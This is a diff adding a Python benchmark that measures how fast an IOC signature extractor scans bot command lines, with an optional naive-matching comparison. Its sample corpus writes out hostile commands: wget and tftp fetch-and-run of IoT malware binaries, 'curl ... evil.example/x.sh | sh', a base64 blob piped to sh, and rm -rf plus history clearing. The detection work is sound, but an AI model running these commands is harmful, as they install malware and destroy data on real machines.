@@ -0,0 +1,83 @@
+#!/usr/bin/env python3
+# bench_ioc.py - throughput of the inline IOC extraction stage
+#
+#   python3 bench_ioc.py                        # 40 .. 5000 signatures
+#   python3 bench_ioc.py --sizes 100 10000 --naive
+#
+# Scans a corpus of bot command lines with the shipped signatures padded
+# with random ones. The automaton's cost per character should stay flat as
+# the list grows; --naive adds a substring-per-signature loop to compare.
+import argparse
+import random
+import string
+import time
+
+import ioc
+
+LINES = [
+    "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /",
+    "wget http://198.51.100.7/bins/mips -O- > .m; chmod +x .m; ./.m telnet.mips",
+    "/bin/busybox ECCHI",
+    "enable",
+    "system",
+    "shell",
+    "sh",
+    "cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'",
+    "echo -ne '\\x7f\\x45\\x4c\\x46\\x01\\x01\\x01\\x00\\x00\\x00\\x00\\x00' > .d; chmod 777 .d",
+    "tftp -g -r mozi.m 203.0.113.9; chmod 777 mozi.m; ./mozi.m",
+    "curl -s https://evil.example/x.sh | sh",
+    "uname -a",
+    "ls -la /dev/shm",
+    "echo aGVsbG8gd29ybGQgdGhpcyBpcyBhIGxvbmcgYmFzZTY0IGJsb2IgeHh4eA== | base64 -d | sh",
+    "rm -rf /tmp/* /var/tmp/*; history -c",
+]
+
+def padded_signatures(n, seed=5):
+    """The shipped signatures plus random ones, `n` in all (at least the shipped ones)."""
+    sigs = list(ioc.load_signatures())
+    rnd = random.Random(seed)
+    alphabet = string.ascii_lowercase + string.digits + "/._-"
+    while len(sigs) < n:
+        pattern = "".join(rnd.choice(alphabet) for _ in range(rnd.randint(5, 24)))
+        sigs.append({"name": f"random-{len(sigs)}", "pattern": pattern, "family": ""})
+    return sigs
+
+def run(fn, lines, seconds):
+    chars = sum(map(len, lines))
+    n = 0
+    t0 = time.perf_counter()
+    while True:
+        for line in lines:
+            fn(line)
+        n += 1
+        elapsed = time.perf_counter() - t0
+        if elapsed >= seconds:
+            return n * len(lines) / elapsed, n * chars / elapsed / 1e6
+
+def main():
+    p = argparse.ArgumentParser(description="Throughput of inline IOC extraction.")
+    p.add_argument("--sizes", type=int, nargs="+", default=[40, 500, 1000, 5000])
+    p.add_argument("--seconds", type=float, default=2.0, help="Time per measurement")
+    p.add_argument("--naive", action="store_true", help="Also time one substring test per signature")
+    args = p.parse_args()
+    lines = LINES * 20
+    print(f"{'signatures':>10s} {'states':>8s} {'build':>8s} {'lines/s':>12s} {'MB/s':>7s}" +
+          (f" {'naive lines/s':>14s}" if args.naive else ""))
+    for size in args.sizes:
+        sigs = padded_signatures(size)
+        t0 = time.perf_counter()
+        extractor = ioc.Extractor(sigs)
+        build = time.perf_counter() - t0
+        # extract() skips the memo, so every line is really scanned
+        rate, mbs = run(extractor.extract, lines, args.seconds)
+        row = f"{len(sigs):10d} {len(extractor.automaton.goto):8d} {build * 1000:6.0f}ms {rate:12,.0f} {mbs:7.2f}"
+        if args.naive:
+            patterns = [s["pattern"].lower() for s in sigs]
+            naive, _ = run(lambda line: [p for p in patterns if p in line.lower()], lines, args.seconds)
+            row += f" {naive:14,.0f}"
+        print(row)
+    rate, _ = run(ioc.Extractor().scan, lines, args.seconds)
+    print(f"repeated lines through scan() (memoized): {rate:,.0f} lines/s")
+
+if __name__ == "__main__":
+    main()